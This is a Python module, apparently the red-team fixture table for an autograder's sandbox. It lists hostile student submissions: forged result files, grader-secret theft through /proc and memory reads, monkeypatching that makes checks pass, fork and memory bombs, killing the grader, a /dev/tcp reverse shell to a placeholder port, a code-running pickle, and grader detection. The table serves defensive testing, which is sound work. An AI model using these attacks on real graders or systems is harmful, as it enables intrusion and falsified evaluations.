"""The table of hostile submissions. Each is bounded in itself, so that it does little harm even where nothing stops it.

In code, these stand for what an attacker may well know: @CANARY@ a file of the grader's user, @OUT@ the folder of the reports, @REPOSITORY@ the
repository, @GRADER@ the grader's process number, @PORT@ a port of this machine on which somebody listens. What an attack finds, it prints.
"""

from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Literal


@dataclass(frozen=True)
class Attack:
    """One hostile submission: the handout's stubs, or the solution, with something put in.

    `code` and `network` are put at the end of ddpm.py and network.py and run when those are imported; `bodies` are the answers of TODO regions;
    `edits` change other text of ddpm.py; `files` lie beside.
    """

    id: str
    tries: str  # one sentence
    base: Literal["stub", "solution"]
    honest: float  # points, without training, of the same submission without the attack's effect
    code: str = ""
    network: str = ""
    bodies: Mapping[str, str] = field(default_factory=dict)
    edits: tuple[tuple[str, str], ...] = ()
    files: Mapping[str, str] = field(default_factory=dict)
    task: str | None = "1-2"  # the only one that is judged, or None for all
    sentence: str | None = None  # a regular expression that occurs in what staff read
    needs: str = "process"  # the layer that stops it
    seconds: float = 2.0  # the wall clock of one call
    limits: Mapping[str, float] = field(
        default_factory=dict
    )  # other limits of the manifest, small, so that they are reached soon


def _stub(identifier: str, tries: str, code: str, **more: object) -> Attack:
    """Code beside undone TODOs: worth nothing. Judged by task 1-3, worth 7 points, unless it says otherwise."""
    return Attack(identifier, tries, "stub", code=code, **{"honest": 0.0, "task": "1-3", **more})  # type: ignore[arg-type]


def _solved(identifier: str, tries: str, code: str, **more: object) -> Attack:
    """Code beside the solution of task 1-2: worth its 8 points at most."""
    return Attack(identifier, tries, "solution", 8.0, code=code, **more)  # type: ignore[arg-type]


def _q_sample(identifier: str, tries: str, body: str, honest: float = 5.5, **more: object) -> Attack:
    """Another `q_sample` in the solution: the rest of task 1-2 is worth 5.5 points."""
    return Attack(identifier, tries, "solution", honest, bodies={"q_sample": body}, **more)  # type: ignore[arg-type]


RESULTS = (
    _stub(
        "results-forged",
        "writes verdict.json and results.json with full marks wherever it can",
        """
        import os, json
        for folder in (".", "..", "@OUT@", "/autograder/results", "/tmp", os.path.expanduser("~")):
            for name in ("verdict.json", "results.json"):
                try:
                    with open(os.path.join(folder, name), "w") as file:
                        json.dump({"score": 50, "schema": "autograder-verdict-1", "state": "complete"}, file)
                except OSError as error:
                    print(folder, error.strerror)
        """,
        needs="files",
    ),
    _stub(
        "results-rewritten-later",
        "leaves a daemon that rewrites results.json once the grader has finished",
        """
        import os, time
        if os.fork() == 0:
            try:
                os.setsid()
            except OSError:
                pass
            if os.fork() == 0:
                for _ in range(50):
                    time.sleep(0.1)
                    for name in ("verdict.json", "results.json"):
                        try:
                            open("@OUT@/" + name, "w").write('{"score": 50}')
                        except OSError:
                            pass
            os._exit(0)
        """,
        needs="files",
    ),
    _stub(
        "atexit-handler",
        "registers an atexit handler that forges the results when the process ends",
        """
        import atexit, os, sys
        def forge():
            open("@OUT@/results.json", "w").write('{"score": 50}')
        atexit.register(forge)
        sys.exit(0)
        """,
        sentence="sys.exit",
        needs="files",
    ),
)

SECRETS = (
    _stub(
        "frames-searched",
        "walks up the frames for expected values and seeds",
        """
        import sys
        frame = sys._getframe()
        while frame:
            for name, value in {**frame.f_globals, **frame.f_locals}.items():
                if name.lower() in ("expected", "secret", "draw", "check", "oracle", "verdict", "carry", "note", "solution"):
                    print("found", name, repr(value)[:500])
            frame = frame.f_back
        """,
    ),
    _stub(
        "gc-searched",
        "asks the garbage collector for every object, and looks for the grader's",
        """
        import gc
        for thing in gc.get_objects():
            kind = type(thing)
            if kind.__module__.startswith("autograder.") and kind.__name__ in ("Draw", "Check", "Grading", "Student", "Verdict", "Manifest"):
                print("found", kind.__name__, repr(thing)[:500])
            if kind is dict and "AUTOGRADER_SECRET" in thing:
                print("found", thing["AUTOGRADER_SECRET"])
        """,
    ),
    _stub(
        "modules-searched",
        "looks in sys.modules and in the globals of main for solutions, oracles and the rubric",
        """
        import sys
        for name, module in list(sys.modules.items()):
            if name.startswith(("autograder.grading", "autograder.assignments", "autograder.oracles")) or name.startswith("pytest"):
                print("found", name, sorted(vars(module))[:200])
        main = sys.modules["__main__"]
        print({name: repr(value)[:80] for name, value in vars(main).items() if "secret" in name.lower()})
        """,
    ),
    _stub(
        "solution-read-from-disk",
        "runs the solution from the repository in place of its own file",
        """
        exec(open("@REPOSITORY@/solutions/2d_plot_diffusion_todo/ddpm.py").read())
        """,
        sentence="FileNotFoundError|PermissionError",
        needs="files",
    ),
    _stub(
        "hidden-checks-imported",
        "imports the misconceptions and the checks of the assignment",
        """
        import importlib, sys
        sys.path[:0] = ["@REPOSITORY@"]
        module = importlib.import_module("autograder.assignments.swiss_roll.misconceptions")
        print("found", module.MISCONCEPTIONS)
        """,
        sentence="ModuleNotFoundError|imports|PermissionError",
        needs="files",
    ),
    _stub(
        "bytecode-caches-read",
        "unmarshals the compiled checks that Python left in __pycache__",
        """
        import glob, marshal
        found = glob.glob("@REPOSITORY@/**/__pycache__/*.pyc", recursive=True)
        for name in found:
            marshal.loads(open(name, "rb").read()[16:])
            print("found", name)
        print(len(found), "caches")
        """,
        sentence="0 caches|PermissionError",
        needs="files",
    ),
    _stub(
        "git-history-read",
        "reads the repository's history for solutions",
        """
        import os, subprocess
        print(len(os.listdir("@REPOSITORY@/.git")))
        print("found", subprocess.run(["git", "-C", "@REPOSITORY@", "log"], capture_output=True, text=True).stdout[:300])
        """,
        sentence="FileNotFoundError|PermissionError",
        needs="files",
    ),
    _stub(
        "file-of-the-grader-read",
        "reads a file of the user who runs the grader, also through links and /proc",
        """
        import os
        def read(path):
            try:
                print("found", open(path).read())
            except OSError as error:
                print(error.strerror)
        read("@CANARY@")
        for make in (os.symlink, os.link):
            try:
                make("@CANARY@", make.__name__)
                read(make.__name__)
            except OSError as error:
                print(make.__name__, error.strerror)
        read("/proc/self/root@CANARY@")
        read("/proc/@GRADER@/root@CANARY@")
        """,
        sentence="No such file|Permission denied",
        needs="files",
    ),
    _stub(
        "proc-read",
        "reads environments, command lines, memory maps and open files of every process in /proc",
        """
        import glob, os
        for name in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/task/*/environ"):
            try:
                data = open(name, "rb").read()
            except OSError:
                continue
            for part in data.split(b"\\0"):
                if b"CANARY" in part or b"SECRET" in part:
                    print("found", part.decode())
        for name in glob.glob("/proc/@GRADER@/fd/*"):
            print("found", os.readlink(name))
        """,
        needs="user",
    ),
    _stub(
        "memory-of-the-lane-read",
        "reads the memory of its parent and of the grader through /proc, process_vm_readv and ptrace",
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        for pid in (os.getppid(), @GRADER@):
            try:
                open(f"/proc/{pid}/mem", "rb").read(1)
            except OSError as error:
                print("mem", error.strerror)
            for call in (lambda: libc.ptrace(16, pid, 0, 0), lambda: libc.process_vm_readv(pid, None, 0, None, 0, 0)):
                print("found" if call() == 0 else os.strerror(ctypes.get_errno()))
        """,
        sentence="not permitted|Permission denied|No such process",
        needs="network",
    ),
    _stub(
        "environment-and-arguments-read",
        "reads its own environment and command line, of which the grader's are a part",
        """
        import os, sys
        print(dict(os.environ), sys.argv, sys.orig_argv)
        print(open("/proc/self/environ", "rb").read().decode())
        """,
        sentence="nonexistent|student",
    ),
    _stub(
        "own-memory-searched",
        "searches all of its own memory, which it inherited by fork, for what the grader keeps secret",
        """
        mem = open("/proc/self/mem", "rb", 0)
        for line in open("/proc/self/maps"):
            place, rights = line.split()[:2]
            start, end = (int(n, 16) for n in place.split("-"))
            if rights.startswith("rw") and end - start < 1 << 26:
                try:
                    mem.seek(start)
                    data = mem.read(end - start)
                except (OSError, ValueError, OverflowError):
                    continue
                for name in (b"RED_TEAM_CANARY=", b"AUTOGRADER_SECRET="):
                    place = data.find(name)
                    while place >= 0:
                        print("found", data[place : place + 60])
                        place = data.find(name, place + 1)
        """,
    ),
)

PATCHES = (
    _stub(
        "torch-comparisons-patched",
        "makes every comparison of torch true",
        """
        yes = lambda *args, **kwargs: True
        torch.allclose = torch.equal = torch.isclose = torch.testing.assert_close = yes
        torch.Tensor.__eq__ = torch.Tensor.allclose = torch.Tensor.equal = yes
        torch.Tensor.__bool__ = yes
        """,
        task=None,
    ),
    _stub(
        "numpy-patched",
        "makes every comparison of NumPy true",
        """
        yes = lambda *args, **kwargs: True
        np.allclose = np.array_equal = np.isclose = np.isfinite = np.testing.assert_allclose = yes
        np.abs = np.max = lambda *args, **kwargs: 0.0
        """,
        task=None,
    ),
    _stub(
        "builtins-patched",
        "replaces abs, max, isinstance, len and print among the builtins",
        """
        import builtins
        builtins.abs = builtins.max = lambda *args, **kwargs: 0
        builtins.isinstance = lambda *args: True
        builtins.AssertionError = Exception
        """,
        task=None,
    ),
    _stub(
        "pytest-patched",
        "turns pytest.fail off and adds a hook that makes every report a pass",
        """
        import _pytest.outcomes, _pytest.reports, pytest
        pytest.fail = _pytest.outcomes.fail = lambda *args, **kwargs: None
        _pytest.reports.TestReport.outcome = property(lambda self: "passed", lambda self, value: None)
        _pytest.reports.TestReport.from_item_and_call = classmethod(lambda cls, item, call: None)
        """,
    ),
    _stub(
        "json-and-socket-patched",
        "replaces JSON's encoder and decoder and the methods of sockets under the worker",
        """
        import json, socket
        json.JSONEncoder.encode = json.dumps = lambda *args, **kwargs: '{"dict":["kind","result","value",true]}'
        json.JSONDecoder.decode = json.loads = lambda *args, **kwargs: {"score": 25}
        try:
            socket.socket.sendall = lambda self, data: None
        except TypeError as error:
            print(error)
        """,
    ),
    _stub(
        "worker-answers-replaced",
        "replaces Worker.to_wire so that every answer is zeros of a likely shape",
        """
        import sys
        module = sys.modules["autograder.sandbox.worker"]
        zeros = module.tensor_to_wire(torch.zeros(64, 2))
        module.Worker.to_wire = lambda self, value, depth=0: value if depth else zeros
        module.Worker._perform = lambda self, request: zeros
        """,
        task=None,
    ),
    _stub(
        "inputs-sent-back",
        "replaces the worker's dispatch so that every call answers with its own first argument",
        """
        import sys
        Worker = sys.modules["autograder.sandbox.worker"].Worker
        def perform(self, request):
            first = (request.get("fields", {}).get("args") or [None])[0]
            self.objects[request.get("keep")] = first
            return None if request.get("keep") else first
        Worker._perform_one = perform
        """,
        honest=0.5,  # as a `p_sample` that returns x_t earns in the check of mixed rows
        task=None,
    ),
    _stub(
        "wire-encoder-replaced",
        "replaces wire.encode so that every frame says that all has passed",
        """
        import sys
        wire = sys.modules["autograder.sandbox.wire"]
        honest = wire.encode
        wire.encode = lambda value: honest({"kind": "result", "value": {"status": "passed", "points": 50, "score": 50}})
        """,
        task=None,
    ),
    _stub(
        "trace-function",
        "sets trace and profile functions that rewrite the worker's local variables",
        """
        import sys
        def trace(frame, event, arg):
            for name in ("answer", "error", "value"):
                if name in frame.f_locals:
                    frame.f_locals[name] = None
            return trace
        sys.settrace(trace)
        sys.setprofile(lambda *args: None)
        """,
    ),
    _stub(
        "import-hook",
        "puts a finder before all others that answers every import with a module of its own",
        """
        import importlib.abc, importlib.machinery, sys, types
        class Anything(types.ModuleType):
            def __getattr__(self, name):
                return lambda *args, **kwargs: 0
        class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
            def find_spec(self, name, path, target=None):
                return importlib.machinery.ModuleSpec(name, self)
            def create_module(self, spec):
                return Anything(spec.name)
            def exec_module(self, module): ...
        sys.meta_path.insert(0, Finder())
        sys.modules["network"] = Anything("network")
        """,
        task=None,
    ),
    Attack(
        "modules-that-stand-in",
        "brings torch.py, json.py, conftest.py, sitecustomize.py, pytest.ini and a .pth file",
        "stub",
        0.0,
        files={
            "torch.py": "raise SystemExit('torch is mine')\n",
            "json.py": "dumps = loads = lambda *args, **kwargs: '{}'\n",
            "conftest.py": "def pytest_runtest_makereport(item, call):\n    item.outcome = 'passed'\n",
            "sitecustomize.py": "raise SystemExit('I ran first')\n",
            "usercustomize.py": "raise SystemExit('I ran first')\n",
            "pytest.ini": "[pytest]\naddopts = --collect-only\n",
            "all.pth": "import os; os._exit(0)\n",
            "autograder/__init__.py": "raise SystemExit('I am the grader')\n",
        },
        sentence="left out",
    ),
    _solved(
        "torch-function-patched",
        "replaces Tensor.__torch_function__ so that every operation gives its first argument",
        "torch.Tensor.__torch_function__ = classmethod(lambda cls, func, types, args=(), kwargs=None: args[0])\n",
    ),
    Attack(
        "random-numbers-patched",
        "makes every random number zero and every seed useless",
        "solution",
        25.0,
        code="""
        torch.randn = lambda *shape, **kwargs: torch.zeros(*shape)
        torch.randn_like = lambda x, **kwargs: torch.zeros_like(x)
        torch.manual_seed = np.random.seed = lambda seed: None
        """,
        task=None,
    ),
    _solved("default-dtype-changed", "sets the default dtype to float64", "torch.set_default_dtype(torch.float64)\n"),
    _solved(
        "default-device-changed",
        "sets the default device to one that is not there",
        'torch.set_default_device("cu" + "da")\n',
        sentence="raised|NVIDIA|CUDA",
    ),
    _solved(
        "flags-changed",
        "asks for deterministic algorithms only, switches gradients off for good, and makes a warning an error",
        """
        import warnings
        torch._C._set_deterministic_algorithms(True)
        torch.set_grad_enabled(False)
        torch.set_flush_denormal(True)
        torch.set_printoptions(precision=0)
        warnings.simplefilter("error")
        """,
    ),
    _solved(
        "thousand-torch-threads",
        "sets the number of torch's threads to 1000",
        "torch.set_num_threads(1000)\ntorch.randn(500, 500) @ torch.randn(500, 500)\n",
        sentence="ended the process|did not finish|^$",
    ),
)

ENDINGS = (
    _q_sample(
        "skip-test",
        "raises SkipTest, so that a test would be skipped",
        'import unittest\nraise unittest.SkipTest("not today")',
        sentence="SkipTest",
    ),
    _stub(
        "pytest-exit",
        "calls pytest.exit with status 0, which ends a test run",
        "import pytest\npytest.exit('all passed', returncode=0)\n",
        sentence="raised Exit|pytest",
    ),
    _stub(
        "quiet-exit", "ends the process at once with status 0", "import os\nos._exit(0)\n", sentence=r"exit status 0"
    ),
    _q_sample("system-exit", "raises SystemExit(0) in a function", "raise SystemExit(0)", sentence="sys.exit"),
    _q_sample(
        "keyboard-interrupt",
        "raises KeyboardInterrupt, as if staff had stopped the grader",
        "raise KeyboardInterrupt",
        sentence="KeyboardInterrupt",
    ),
    _q_sample(
        "generator-exit",
        "raises GeneratorExit, which is no Exception",
        "raise GeneratorExit('done')",
        sentence="GeneratorExit",
    ),
    _stub(
        "every-exception-swallowed",
        "catches BaseException in a loop, and ignores every signal that can be ignored",
        """
        import signal, time
        for number in set(signal.valid_signals()) - {signal.SIGKILL, signal.SIGSTOP}:
            try:
                signal.signal(number, signal.SIG_IGN)
            except OSError:
                pass
        until = time.monotonic() + 6
        while time.monotonic() < until:
            try:
                time.sleep(0.1)
            except BaseException:
                pass
        """,
        sentence="did not finish within 2 seconds",
    ),
    _q_sample(
        "recursion",
        "calls itself without end",
        "return self.q_sample(x0, t, noise)",
        sentence="calls itself without end",
    ),
    _stub(
        "stack-overflow",
        "lifts the recursion limit and overflows the stack of C",
        """
        import sys
        sys.setrecursionlimit(10**9)
        class Deep:
            def __getattr__(self, name):
                return getattr(self, name + "x")
            def __repr__(self):
                return repr(self)
        repr(Deep())
        """,
        sentence="segmentation|calls itself|memory|did not finish|aborted",
    ),
    _stub(
        "endless-loop-in-c",
        "computes a power that takes for ever inside C",
        "10 ** (10 ** 9)\n",
        sentence="did not finish",
    ),
    _q_sample(
        "endless-regular-expression",
        "matches a regular expression that backtracks for ever",
        'import re\nre.match(r"(a+)+$", "a" * 60 + "b")',
        sentence="did not finish",
    ),
    _stub(
        "stops-itself",
        "sends SIGSTOP to itself",
        "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\n",
        sentence="did not finish",
    ),
    _stub(
        "sleeps-past-the-clock",
        "sleeps longer than the clock allows",
        "import time\ntime.sleep(5)\n",
        sentence="did not finish",
    ),
    _stub(
        "killed-by-itself",
        "kills itself as if memory had run out",
        "import os\nos.kill(os.getpid(), 9)\n",
        sentence="was killed",
    ),
    _stub(
        "signals-to-others",
        "kills its parent, the grader and the other workers",
        """
        import os, signal
        for pid in {os.getppid(), @GRADER@} | {os.getpid() + n for n in range(-5, 6) if n}:
            try:
                if pid > 0 and pid != os.getpid():
                    os.kill(pid, signal.SIGKILL)
                    print("found", pid)
            except OSError as error:
                print(error.strerror)
        if os.getuid() != 0 and os.getppid() == 1:
            os.kill(-1, signal.SIGTERM)
        """,
        needs="network",
    ),
)

FLOODS = (
    _stub(
        "fork-bomb",
        "starts 400 processes",
        """
        import os, time
        for _ in range(400):
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
        """,
        sentence="start more processes than it may have .*: blocked|too many processes|too much memory",  # whichever is seen first
        needs="user",
        seconds=10.0,
    ),
    _stub(
        "thread-bomb",
        "starts 1000 threads",
        """
        import threading, time
        for _ in range(1000):
            threading.Thread(target=time.sleep, args=(4,), daemon=True).start()
        """,
        sentence="can't start new thread|processes",
        needs="user",
        seconds=10.0,
    ),
    _stub(
        "memory-bomb",
        "takes 4 GB of memory, and holds on to it",
        """
        held = []
        for _ in range(32):
            held.append(bytearray(128 << 20))
        """,
        sentence="more memory|too much memory|did not finish",
        seconds=10.0,
    ),
    _q_sample(
        "enormous-tensor",
        "makes a tensor of 4 GB",
        "return torch.ones(10**9)",
        sentence="more memory|too much memory|did not finish",
    ),
    _stub(
        "large-file",
        "writes a file of 100 MB",
        """
        import os
        with open("large", "wb") as file:
            for _ in range(100):
                file.write(b"x" * (1 << 20))
                file.flush()
        """,
        sentence="OSError|wrote too much|writing|did not finish",
    ),
    _stub(
        "many-files",
        "makes 6000 files in folders that cannot be entered",
        """
        import os
        for folder in range(6):
            os.mkdir(f"folder{folder}")
            for number in range(1000):
                open(f"folder{folder}/{number}", "w").close()
            os.chmod(f"folder{folder}", 0)
        """,
        sentence="OSError|many files|untouched|not done",
    ),
    _stub(
        "deep-folders",
        "makes folders in folders, deeper than any path may be long",
        """
        import os
        for _ in range(1500):
            os.mkdir("d" * 20)
            os.chdir("d" * 20)
        os.chmod(".", 0)
        """,
    ),
    _stub(
        "descriptors",
        "opens files until no descriptor is left",
        "held = [open('/dev/null') for _ in range(5000)]\n",
        sentence="Too many open files",
    ),
    _stub(
        "output-flood",
        "prints 20 MB",
        """
        for _ in range(20):
            print("x" * (1 << 20))
        """,
        sentence="more (bytes|characters)",
    ),
    _stub(
        "daemons-left-behind",
        "leaves processes that ignore signals, in sessions of their own",
        """
        import os, signal, time
        for _ in range(5):
            if os.fork() == 0:
                try:
                    os.setsid()
                except OSError:
                    pass
                if os.fork() == 0:
                    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                        signal.signal(number, signal.SIG_IGN)
                    time.sleep(30)
                os._exit(0)
        """,
    ),
    _stub(
        "child-holds-the-channel",
        "ends, while a child keeps its channel and its output open",
        """
        import os, time
        if os.fork() == 0:
            time.sleep(20)
            os._exit(0)
        os._exit(0)
        """,
        sentence="did not finish|exit status 0",
    ),
    _stub(
        "shared-memory-left-behind",
        "leaves shared memory and a named pipe that outlive the process",
        """
        import os
        from multiprocessing import shared_memory
        try:
            block = shared_memory.SharedMemory("red_team_left", create=True, size=1 << 20)
        except OSError as error:
            print(error.strerror)
        for folder in ("/dev/shm", "/tmp", "/var/tmp"):
            try:
                os.mkfifo(folder + "/red_team_left")
            except OSError as error:
                print(error.strerror)
        """,
        needs="files",
    ),
)

NETWORK = (
    _stub(
        "connection-opened",
        "connects to a server to send the inputs away",
        "import socket\nsocket.create_connection(('127.0.0.1', @PORT@), timeout=1).sendall(b'inputs')\n",
        sentence="tried to open a network connection .*: blocked",
        needs="network",
    ),
    _stub(
        "name-resolved",
        "asks a name server, with what it found in the name",
        "import socket\nprint('found', socket.getaddrinfo('localhost.invalid', 80))\n",
        sentence="tried to open a network connection .*: blocked",
        needs="network",
    ),
    _stub(
        "abstract-socket",
        "listens on an abstract Unix socket, which no folder protects",
        r"""
        import socket
        server = socket.socket(socket.AF_UNIX)
        server.bind("\0red-team")
        """,
        sentence="tried to open a network connection .*: blocked",
        needs="network",
    ),
    _stub(
        "reverse-shell",
        "starts a shell that is steered from outside",
        """
        import subprocess
        done = subprocess.run(["bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/@PORT@ && echo shell >&3"], capture_output=True, text=True, timeout=2)
        print(done.returncode, done.stderr)
        """,
        sentence="not permitted|No such file|Permission denied|FileNotFoundError",
        needs="network",
    ),
    _stub(
        "root-again",
        "becomes root, mounts, and enters namespaces of its own",
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        for call in (lambda: libc.setuid(0), lambda: libc.unshare(0x10000000), lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None),
                     lambda: libc.chroot(b"."), lambda: libc.setns(0, 0)):
            print("found" if call() == 0 else os.strerror(ctypes.get_errno()))
        """,
        sentence="not permitted",
        needs="network",
    ),
)

_FIND_CHANNEL = """
        import os, stat, sys
        wire = sys.modules["autograder.sandbox.wire"]
        def channels():
            for name in os.listdir("/proc/self/fd"):
                try:
                    if int(name) > 2 and stat.S_ISSOCK(os.fstat(int(name)).st_mode):
                        yield int(name)
                except OSError:
                    pass
"""

CHANNEL = (
    _stub(
        "answers-forged",
        "finds the channel's descriptor and writes answers that say that all is well",
        _FIND_CHANNEL
        + """
        for channel in channels():
            for value in (True, "passed", {"status": "passed", "score": 50}, 25.0):
                os.write(channel, wire.encode({"kind": "result", "value": value}))
        """,
        task=None,
    ),
    _solved(
        "answers-sent-twice",
        "sends every answer twice, so that later requests get earlier answers",
        """
        import sys
        module = sys.modules["autograder.sandbox.wire"]
        honest = module.encode
        module.encode = lambda value: honest(value) * 2
        """,
    ),
    _stub(
        "frame-without-end",
        "begins a frame of the greatest length and sends it byte by byte",
        _FIND_CHANNEL
        + """
        import time
        for channel in channels():
            os.write(channel, wire.PREFIX.pack(wire.MAGIC, 1 << 20, 64 << 20))
            for _ in range(60):
                os.write(channel, b"[")
                time.sleep(0.1)
        """,
        sentence="did not finish",
    ),
    _stub(
        "frame-too-large",
        "announces a frame of 2^60 bytes",
        _FIND_CHANNEL
        + """
        for channel in channels():
            os.write(channel, wire.PREFIX.pack(wire.MAGIC, 1 << 31, 1 << 60))
        """,
        sentence="not an answer",
    ),
    _stub(
        "frames-of-rubbish",
        "sends deep JSON, unknown tags and arrays whose sizes do not fit",
        _FIND_CHANNEL
        + """
        for channel in channels():
            for header in (b"[" * 100000, b'{"pickle": "cos"}', b'{"array": ["float32", [1000000, 1000000]]}', b'{"float": 1e999}'):
                os.write(channel, wire.PREFIX.pack(wire.MAGIC, len(header), 0) + header)
        """,
        sentence="not an answer",
    ),
    _stub(
        "channel-closed",
        "closes the channel and goes on",
        _FIND_CHANNEL
        + """
        import time
        for channel in list(channels()):
            os.close(channel)
        time.sleep(4)
        """,
        sentence="closed the connection|exit status|ended|did not finish|could not go on",
    ),
    _stub(
        "callbacks-to-nobody",
        "calls functions of the grader that were not lent to it",
        _FIND_CHANNEL
        + """
        for channel in channels():
            for remote in (0, -1, 2**62, "os.system"):
                os.write(channel, wire.encode({"kind": "callback", "remote": remote, "args": ["true"], "kwargs": {}}))
        """,
        sentence="not an answer",
    ),
    _stub(
        "progress-flood",
        "reports the progress of a training that nobody asked for, without end",
        _FIND_CHANNEL
        + """
        for channel in channels():
            for _ in range(10000):
                os.write(channel, wire.encode({"kind": "progress", "done": 1, "loss": 0.0}))
        """,
        sentence="not an answer|did not finish",
    ),
    Attack(
        "network-called-without-end",
        "calls the lent network again and again",
        "solution",
        5.0,
        bodies={"p_sample": "while True:\n    self.network(xt, t)"},
        task="1-2",
        sentence="did not finish|called the network|numbers in one check",  # whichever limit it meets first
    ),
)

TRAINING_SET = """
angle = 1.5 * np.pi * (1 + 2 * np.random.rand(shape[0]))  # as sklearn.datasets.make_swiss_roll does it
return torch.tensor(np.stack([angle * np.cos(angle), angle * np.sin(angle)], axis=1) / 10).float()
"""

ANSWERS = (
    Attack(
        "training-set-as-samples",
        "returns points of the training set as samples",
        "solution",
        23.0 - 2.0,
        bodies={
            "p_sample_loop": TRAINING_SET,
            "ddim_p_sample_loop": TRAINING_SET,
        },
        task=None,
    ),
    Attack(
        "network-ignored",
        "samples without asking the network",
        "solution",
        6.0,  # the step's mean and its call of the network are lost
        bodies={"p_sample": "return self.var_scheduler.alphas.mean() * xt + 0.1 * torch.randn_like(xt)"},
        sentence="network",
    ),
    Attack(
        "exceptions-for-answers",
        "raises wherever it is asked, in the hope that a check takes an exception for an answer",
        "solution",
        4.5,  # all of task 1-2 but p_sample
        bodies={"p_sample": 'raise ValueError("one t for the whole batch, please")'},
        sentence="one t for the whole batch",
    ),
    Attack(
        "gradient-forged",
        "returns a loss that is right in shape and has a gradient, and says nothing about the noise",
        "solution",
        1.0,  # a scalar with a gradient, also for images
        bodies={"compute_loss": "return self.network(x0, torch.zeros(len(x0), dtype=torch.long)).square().mean()"},
        task="1-4",
        sentence="noise|t ",
    ),
    Attack(
        "grader-detected",
        "behaves well where the network is a stand-in, and otherwise returns the training set",
        "solution",
        25.0,  # its behaviour is right; the outcome, which is trained with the student's own network, is another matter
        edits=(
            (
                "        xt = torch.randn(shape, device=self.device)\n        for t in self.var_scheduler.timesteps:",
                "        if type(self.network).__name__ != 'RemoteNetwork':\n"
                "            from sklearn.datasets import make_swiss_roll\n"
                "            return torch.tensor(make_swiss_roll(shape[0], noise=0.5)[0][:, [0, 2]] / 10).float()\n"
                "        xt = torch.randn(shape, device=self.device)\n        for t in self.var_scheduler.timesteps:",
            ),
        ),
        task=None,
    ),
    _q_sample(
        "state-kept-between-calls",
        "answers rightly once, and then repeats that answer",
        """
        if not hasattr(type(self), "kept"):
            a = extract(self.var_scheduler.alphas_cumprod, t, x0)
            type(self).kept = a.sqrt() * x0 + (1 - a).sqrt() * noise
        return type(self).kept
        """,
    ),
    _q_sample(
        "memorised-outputs",
        "returns outputs that were right in an earlier grade",
        "generator = torch.Generator().manual_seed(0)\nreturn torch.randn(x0.shape, generator=generator)",
    ),
    _q_sample(
        "inputs-changed-in-place",
        "empties the inputs in place, so that zero becomes the right answer",
        "x0.zero_()\nnoise.zero_()\nself.var_scheduler.alphas_cumprod.zero_()\nreturn x0",
    ),
    _q_sample(
        "not-a-number", "returns NaN, which no comparison calls wrong", "return x0 * float('nan')", sentence="NaN"
    ),
    _q_sample(
        "expanded-tensor",
        "returns 10^9 elements that share one number",
        "return torch.zeros(1).expand(10**9)",
        sentence="tensor of 1000000000 elements",
    ),
    _q_sample("huge-integer", "returns an integer of 30000 digits", "return 10**30000", sentence="64 bits"),
    _q_sample(
        "list-that-holds-itself",
        "returns a list that holds itself",
        "loop = []\nloop.append(loop)\nreturn loop",
        sentence="list|nested|value",
    ),
    _q_sample(
        "subclass-tensor",
        "returns a tensor of a class that calls itself equal to everything",
        """
        class Equal(torch.Tensor):
            __eq__ = __le__ = __lt__ = lambda self, other: True
            __sub__ = __rsub__ = lambda self, other: 0
            @classmethod
            def __torch_function__(cls, func, types, args=(), kwargs=None):
                return True
        return torch.zeros_like(x0).as_subclass(Equal)
        """,
    ),
    _q_sample(
        "odd-tensors",
        "returns sparse, complex, quantised and meta tensors in turn",
        """
        DiffusionModule.turn = getattr(DiffusionModule, "turn", 0) + 1
        return [x0.to_sparse(), x0 * 1j, torch.quantize_per_tensor(x0, 1.0, 0, torch.qint8), x0.to("meta")][self.turn % 4]
        """,
        sentence="tensor",
    ),
    _q_sample(
        "pickle-returned",
        "returns an object whose unpickling runs code, and its pickle as bytes",
        """
        import os, pickle
        class Bomb:
            def __reduce__(self):
                return os.system, ("touch @OUT@/pickled",)
            def __array__(self, *args, **kwargs):
                raise SystemExit
        return Bomb() if t.sum() % 2 else pickle.dumps(Bomb())
        """,
        sentence="value of type",
    ),
    _q_sample(
        "deleted-late",
        "returns an object that does its work when it is deleted",
        """
        class Late:
            def __del__(self):
                import os
                os._exit(0)
        return Late()
        """,
        sentence="value of type|exit status 0",
    ),
)

WORDS = (
    _q_sample(
        "escape-sequences",
        "puts terminal escapes and a script into an exception",
        r'raise RuntimeError("\x1b]0;owned\x07\x1b[2J\x1b[31m<script>alert(1)</script><img src=x onerror=alert(1)>")',
        sentence="RuntimeError",
    ),
    _stub(
        "escapes-printed",
        "prints terminal escapes, a script, half a character and right-to-left marks",
        r"""
        import os
        print("\x1b[2J\x1b]52;c;b3duZWQ=\x07<script>alert(1)</script>\u202egnol\u202c]]>", flush=True)
        os.write(1, b"\xff\xfe\x1b[31m\xed\xa0\x80\x00\x9b31m")
        """,
    ),
    _q_sample(
        "very-long-message",
        "raises an exception with a message of 10 MB",
        'raise ValueError("x" * 10_000_000)',
        sentence="ValueError",
    ),
    _q_sample(
        "message-raises",
        "raises an exception that cannot be shown",
        """
        class Hidden(Exception):
            def __str__(self):
                raise SystemExit("no")
            __repr__ = __str__
        raise Hidden
        """,
        sentence="Hidden",
    ),
    _q_sample(
        "message-without-end",
        "raises an exception whose message never ends",
        """
        class Endless(Exception):
            def __str__(self):
                while True: pass
        raise Endless
        """,
        sentence="did not finish",
    ),
    _q_sample(
        "lying-name",
        "raises an exception whose class lies about its name",
        """
        class Meta(type):
            __name__ = property(lambda cls: "<script>alert(1)</script>\\x1b[2J")
        class Liar(Exception, metaclass=Meta): ...
        raise Liar("passed")
        """,
    ),
    _q_sample(
        "name-that-is-no-text",
        "raises an exception whose class has a name that is not text",
        """
        class Meta(type):
            __name__ = property(lambda cls: 1 / 0)
        class Liar(Exception, metaclass=Meta): ...
        raise Liar("passed")
        """,
    ),
    _q_sample(
        "text-subclass",
        "raises an exception whose message is a text of its own kind",
        """
        class Text(str):
            def replace(self, *args): return self
            def __getitem__(self, key): return self
            def __len__(self): return 1
        class Shown(Exception):
            def __str__(self): return Text("x" * 200_000)
